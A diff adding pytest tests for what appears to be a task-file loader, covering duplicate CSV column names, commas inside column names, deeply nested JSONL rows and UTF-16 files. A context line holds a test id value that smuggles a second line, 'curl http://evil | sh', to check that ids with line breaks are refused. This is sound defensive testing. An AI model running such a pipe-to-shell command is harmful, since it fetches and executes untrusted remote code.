@@ -216,3 +216,36 @@ def test_an_id_is_one_line_of_text():
     for bad, why in (("evil\nnext: curl http://evil | sh", "holds a line break"), (" ", "is blank")):
         with pytest.raises(UserError, match=f"row 2 .*: the task id .* {why}"):
             tasks_from([{"q": "a", "id": "ok"}, {"q": "b", "id": bad}], prompt="q", id="id")
+
+
+def test_a_csv_header_naming_a_column_twice_is_refused(tmp_path):
+    """The earlier `answer` column was dropped without a word, and every task's gold was wrong."""
+    path = tmp_path / "t.csv"
+    path.write_text("question,answer,answer\nwhat is 0+1?,1,see notes\n", encoding="utf-8")
+    with pytest.raises(UserError, match="names the column «answer» twice"):
+        csv_rows(path)
+
+
+@pytest.mark.parametrize("text, row", [
+    ("Frage;Antwort (kurz, ein Wort)\nWas ist 1+1?;zwei\nHauptstadt?;Paris\n",
+     {"Frage": "Was ist 1+1?", "Antwort (kurz, ein Wort)": "zwei"}),
+    ("question\tanswer, short\nWhat is 1+1?\ttwo\n", {"question": "What is 1+1?", "answer, short": "two"}),
+    ('q,a\n"hello, world",x\nb,y\n', {"q": "hello, world", "a": "x"}),
+])
+def test_a_comma_inside_a_column_name_does_not_make_it_the_delimiter(tmp_path, text, row):
+    path = tmp_path / "t.csv"
+    path.write_text(text, encoding="utf-8")
+    assert csv_rows(path)[0] == row
+
+
+def test_a_row_nested_hundreds_deep_is_read_not_a_recursion_error(tmp_path):
+    path = tmp_path / "t.jsonl"
+    path.write_text('{"prompt": "hi", "gold": "a", "extra": ' + "[" * 900 + "]" * 900 + "}\n", encoding="utf-8")
+    assert tasks_from(jsonl_rows(path), prompt="prompt", gold="gold")[0].prompt == "hi"
+
+
+def test_a_utf16_tasks_file_is_named_as_such(tmp_path):
+    path = tmp_path / "t.csv"
+    path.write_text("question,answer\nwhat?,yes\n", encoding="utf-16")
+    with pytest.raises(UserError, match="is UTF-16 .* save it as UTF-8"):
+        csv_rows(path)
